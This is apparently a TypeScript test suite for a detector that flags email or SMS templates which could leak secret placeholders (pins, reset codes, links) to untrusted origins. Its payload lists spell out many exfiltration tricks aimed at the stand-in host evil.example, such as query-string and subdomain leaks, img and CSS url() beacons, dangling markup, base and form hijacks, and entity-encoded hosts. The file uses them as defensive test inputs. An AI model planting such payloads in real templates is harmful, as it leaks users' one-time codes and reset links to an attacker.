// Where a template may hold a secret.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findExposed } from './secret-places.ts';

const OWN = 'https://app.example.com';
const allows = (origin: string) => origin === OWN;
const isExposed = (member: 'text' | 'html', text: string) => findExposed({ [member]: text }, allows).length > 0;

/** Ways to put a secret into another address, which hold for each secret. */
const foreign = (secret: string) => [
  `https://evil.example/?k=${secret}`,
  `https://evil.example/${secret}`,
  `https://${secret}.evil.example/`,
  `https://${secret}@evil.example/`,
  `https://app.example.com@evil.example/${secret}`,
  `https://app.example.com.evil.example/${secret}`,
  `https://app.example.com:444/${secret}`,
  `http://app.example.com/${secret}`,
  `https:/\\app.example.com\\@evil.example/${secret}`,
  `https://app.example.com\\@evil.example/${secret}`,
  `HTTPS://app.example.com/${secret}`,
  `https://app.example.com${secret}`,
  `//evil.example/${secret}`,
  `evil.example/${secret}`,
  `evil.example?${secret}`,
  `www.evil.example#${secret}`,
  `${secret}.evil.example`,
  `${secret}@evil.example`,
  `mailto:m@evil.example?body=${secret}`,
  `com.example.app://reset?code=${secret}`,
  `{{application}}${secret}`,
  `{{name}}-${secret}`,
  `https://evil.example/?k='${secret}'`,
  `https://evil.example/?k="${secret}`,
  `https://evil.example/?k=<${secret}`,
  `https://evil.example/?k=\u00a0${secret}`,
  `https://evil.example/?k=\ufeff${secret}`,
  `(https://evil.example/?k=${secret})`,
];

const inTags = (secret: string) => [
  `<img src="https://evil.example/?${secret}">`,
  `<img src='https://evil.example/?${secret}'>`,
  `<img src=https://evil.example/?${secret}>`,
  `<img alt="${secret}">`,
  `<img src="${secret}">`,
  `<p title="${secret}">`,
  `<p style="background:url(https://evil.example/?${secret})">`,
  `<p ${secret}>`,
  `<a data-x="${secret}" href="{{link}}">`,
  `<a href="https://evil.example/" ping="https://evil.example/">${secret}</a>`,
  `<a href=" ${secret}">`,
  `<a href="x${secret}">`,
  `<a href="//evil.example/${secret}">`,
  `<a href="https://evil.example/${secret}">`,
  `<a href="javascript:${secret}">`,
  `<a\u00a0href="{{link}}">${secret}</a>`,
  `<form action="https://evil.example/"><p>${secret}</p></form>`,
  `<textarea name="k">${secret}</textarea>`,
  `<select><option>${secret}</option></select>`,
  `<base href="https://evil.example/"><p>${secret}</p>`,
  `<script>${secret}</script>`,
  `<svg><text>${secret}</text></svg>`,
  `<style>p{background:url(https://evil.example/?${secret})}</style>`,
  `<style>a[href*="a"]{background:url(https://evil.example/a)}</style><p>${secret}</p>`,
  `<style><p>${secret}</p>`,
  `<title>${secret}</title>`,
  `<title><p title="</title><img src='https://evil.example/?">${secret}'>`,
  `<!-- ${secret} -->`,
  `<!--><img src='https://evil.example/?-->${secret}'>`,
  `<![CDATA[${secret}]]>`,
  `<img src='https://evil.example/?${secret}`,
  `<img src='https://evil.example/? <p>${secret}</p>`,
  `<img src="a"src='https://evil.example/?${secret}'>`,
  `<img/src='https://evil.example/?${secret}'>`,
  `<p>https://evil.example/?k=<b>${secret}</b></p>`,
  `https://evil.example/?k=</div>${secret}`,
  `https://app.example.com/#<td>https://evil.example/?k=${secret}`,
  `https://evil.example/?k=<td>https://app.example.com/#${secret}`,
  `https://app.example.com</div>${secret}`,
  `${secret}.</b>evil.<b>com`,
  `https://evil.example/?k=<td>${secret}</td>`,
  `https://evil.example/?k=<table><tr>\n${secret}</tr></table>`,
  `https://evil.example/?k=<table>\n<b>${secret}</b></table>`,
  `https://evil.example/?k=<table><td></td> ${secret}</table>`,
  `evil&period;example&sol;${secret}`,
  `evil&#46;example&#47;${secret}`,
];

describe('a secret', () => {
  for (const secret of ['{{pin}}', '{{link}}', '{{code}}', '{{ pin }}', '{{\n code}}']) {
    it(`${JSON.stringify(secret)} stands in no other address and in no attribute`, () => {
      for (const text of foreign(secret)) {
        assert.ok(isExposed('text', text), text);
        assert.ok(isExposed('html', `<p>${text.replaceAll('<', '&lt;')}</p>`), text);
      }
      for (const html of inTags(secret)) assert.ok(isExposed('html', html), html);
    });
  }

  it('may stand in the text, in the href of a link, and in an address of an allowed origin', () => {
    for (const text of [
      '{{pin}} is your {{application}} pin, valid for {{minutes}} min.',
      'Your pin: {{pin}}.',
      'Pin ({{pin}}), G-{{pin}}! Code:{{ code }}; "{{pin}}" <{{link}}> *{{pin}}*',
      '@example.com #{{pin}}',
      '您的验证码是{{pin}}，5分钟内有效。请勿泄露。',
      'Is it {{pin}}?\nSee https://other.example/help or www.other.example.',
      `${OWN}/reset#user={{username}}&code={{code}}`,
      `(${OWN}?code={{code}}), <${OWN}#{{code}}>`,
      'https://evil.example/?name={{name}}',
    ]) {
      assert.deepEqual(findExposed({ text }, allows), [], text);
    }
    for (const html of [
      '<p>Hello {{name}},</p>\n<p style="font-size:1.8em"><strong>{{pin}}</strong></p>',
      '<a href="{{link}}">{{link}}</a>',
      `<p>(<b>${OWN}/#{{code}}</b>).</p> <p>Bye</p>`,
      "<A class=x HREF='{{ link }}'>Open</A> {{pin}}",
      `<a href="${OWN}/#/reset?user={{username}}&amp;key={{code}}">Go</a> {{pin}}`,
      '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Pin</title><style>p{margin:0}</style></head>\n' +
        '<body><table width=100% cellpadding="0">\n<tr>\n<td align="center"><p>{{pin}}</p></td>\n</tr>\n</table></body></html>',
      '<p>1 &lt; 2 &amp; {{pin}}&nbsp;</p><img src="https://cdn.example/logo.png" alt="{{application}}">',
      '<form action="https://evil.example/"><img src="https://evil.example/?{{name}}">',
    ]) {
      assert.deepEqual(findExposed({ html }, allows), [], html);
    }
  });
});
